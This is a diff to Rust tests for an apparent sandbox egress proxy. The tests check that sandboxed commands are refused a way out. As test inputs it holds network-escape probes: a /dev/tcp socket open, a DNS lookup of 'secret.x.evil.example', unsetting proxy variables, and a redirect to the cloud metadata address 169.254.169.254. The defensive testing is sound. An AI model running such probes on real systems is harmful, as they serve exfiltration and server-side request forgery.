@@ -2,6 +2,7 @@
 //! `allow_private` as an operator would name servers of his own network. Each story looks at what
 //! the command was told, at what the record says, and at who was reached.
 
+mod carried;
 mod escape;
 mod outside;
 mod registry;
@@ -13,7 +14,7 @@ use forgehand::egress::{Egress, Gate, Row, Verdict};
 use forgehand::permission::HostRule;
 use forgehand::sandbox::{Part, Started};
 
-use super::backends::Place;
+use super::backends::{Place, on_each_as_each_user_and_far_away};
 use super::*;
 use crate::net::site::{Answer, Site};
 use outside::{Names, Wire, client_hello};
@@ -99,7 +100,7 @@ fn request(method: &str, authority: &str, path: &str) -> String {
 
 #[test]
 fn n01_n08_n09_only_the_proxy_is_there() {
-    on_each_as_each_user(async || {
+    on_each_as_each_user_and_far_away(async || {
         let site = Site::start(|_| Answer::text("outside")).await;
         let private = format!("allowed.example:{}", site.port());
         let names = Names::of(&[("allowed.example", &["127.0.0.1"])]);
@@ -117,6 +118,11 @@ fn n01_n08_n09_only_the_proxy_is_there() {
             "getent hosts secret.x.evil.example".to_owned(),
             "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; getent hosts allowed.example".to_owned(),
         ] {
+            // There the network is the server's, and the stood-in sidecar enforces nothing: that nothing
+            // lies behind it shows only to those who wait for an answer.
+            if backends::place() == Place::OpenSandbox && line.contains("/dev/udp/") {
+                continue;
+            }
             let output = run.sandbox.exec(&Exec::shell(&line), &CancellationToken::new()).await;
             let output = output.expect("the sandbox works");
             assert_ne!(output.exit, Exit::Code(0), "{line}: {}", output.output);
@@ -132,14 +138,15 @@ fn n01_n08_n09_only_the_proxy_is_there() {
 
 #[test]
 fn n01_without_a_way_out_nothing_listens() {
-    on_each_as_each_user(async || {
+    on_each_as_each_user_and_far_away(async || {
         let run = Run::open().await;
         assert_ne!(run.sh("exec 3<>/dev/tcp/127.0.0.1/17128").await.exit, Exit::Code(0));
         assert_eq!(
             run.ok("echo \"[$http_proxy$HTTPS_PROXY]\"; ls /run/forgehand").await,
             match backends::place() {
                 Place::Local => "[]\nbase.git\n",
-                Place::Docker | Place::Podman | Place::OpenSandbox => "[]\nbase.git\nhelper\n",
+                Place::Docker | Place::Podman => "[]\nbase.git\nhelper\n",
+                Place::OpenSandbox => "[]\nbase.git\nhelper\nout\ntasks\n",
             }
         );
     });
@@ -164,7 +171,7 @@ async fn n02_an_empty_list_opens_nothing() {
 
 #[test]
 fn n03_only_the_canonical_host_passes() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|_| Answer::text("outside")).await;
         let port = site.port();
         let names = Names::of(&[("github.example", &["127.0.0.1"])]);
@@ -204,7 +211,7 @@ fn n03_only_the_canonical_host_passes() {
 
 #[test]
 fn n04_private_addresses_are_refused_by_name_and_by_number() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|_| Answer::text("secret")).await;
         let port = site.port();
         let names = Names::of(&[
@@ -258,7 +265,7 @@ fn n04_private_addresses_are_refused_by_name_and_by_number() {
 
 #[test]
 fn n05_the_connection_goes_to_the_address_that_was_vetted() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let inside = Site::start(|_| Answer::text("inside")).await;
         let port = inside.port();
         let meant = Site::start_at("127.0.0.2", port, |_| Answer::text("meant")).await;
@@ -275,7 +282,7 @@ fn n05_the_connection_goes_to_the_address_that_was_vetted() {
 
 #[test]
 fn n06_a_redirect_is_the_clients_to_follow_and_judged_again() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|path| match path {
             "/away" => Answer::redirect("http://169.254.169.254/latest/meta-data/"),
             _ => Answer::text("page"),
@@ -304,7 +311,7 @@ fn n06_a_redirect_is_the_clients_to_follow_and_judged_again() {
 
 #[test]
 fn n07_a_tunnel_must_name_the_host_it_goes_to() {
-    on_each_as_each_user(async || {
+    on_each_as_each_user_and_far_away(async || {
         let wire = Wire::start().await;
         let authority = format!("allowed.example:{}", wire.port());
         let names = Names::of(&[("allowed.example", &["127.0.0.1"])]);
@@ -338,7 +345,7 @@ fn n07_a_tunnel_must_name_the_host_it_goes_to() {
 
 #[test]
 fn n07_other_ports_and_other_hosts_in_the_head_are_refused() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let names = Names::of(&[("allowed.example", &["127.0.0.1"])]);
         let run = Outgoing::open(&egress(&["allowed.example"], &[]), &names).await;
         for port in [22, 25, 8080] {
@@ -365,7 +372,7 @@ fn n07_other_ports_and_other_hosts_in_the_head_are_refused() {
 
 #[test]
 fn n10_odd_methods_and_smuggled_requests_do_not_pass() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|_| Answer::text("outside")).await;
         let authority = format!("allowed.example:{}", site.port());
         let names = Names::of(&[("allowed.example", &["127.0.0.1"])]);
@@ -397,7 +404,7 @@ fn n10_odd_methods_and_smuggled_requests_do_not_pass() {
 
 #[test]
 fn n11_caps_are_for_the_whole_run() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|path| match path {
             "/endless" => Answer::endless("x"),
             _ => Answer::text("page"),
@@ -432,7 +439,7 @@ fn n11_caps_are_for_the_whole_run() {
 
 #[test]
 fn n11_more_connections_than_may_be_are_let_go() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let names = Names::of(&[]);
         let config = EgressConfig {
             max_connections: 2,
@@ -451,7 +458,7 @@ fn n11_more_connections_than_may_be_are_let_go() {
 
 #[test]
 fn a_blocked_host_is_told_with_the_line_that_would_allow_it() {
-    on_each_as_each_user(async || {
+    on_each_as_each_user_and_far_away(async || {
         let names = Names::of(&[]);
         let run = Outgoing::open(&egress(&["docs.example"], &[]), &names).await;
         let shown = run.tunnel("evil.example:443", b"").await;
@@ -477,7 +484,7 @@ fn a_blocked_host_is_told_with_the_line_that_would_allow_it() {
 
 #[test]
 fn a_repository_narrows_the_list() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|_| Answer::text("outside")).await;
         let port = site.port();
         let names = Names::of(&[("a.example", &["127.0.0.1"]), ("b.example", &["127.0.0.1"])]);
@@ -501,7 +508,7 @@ fn a_repository_narrows_the_list() {
 
 #[test]
 fn the_way_out_ends_with_the_run() {
-    on_each(async || {
+    on_each_and_far_away(async || {
         let site = Site::start(|_| Answer::silent()).await;
         let authority = format!("allowed.example:{}", site.port());
         let names = Names::of(&[("allowed.example", &["127.0.0.1"])]);
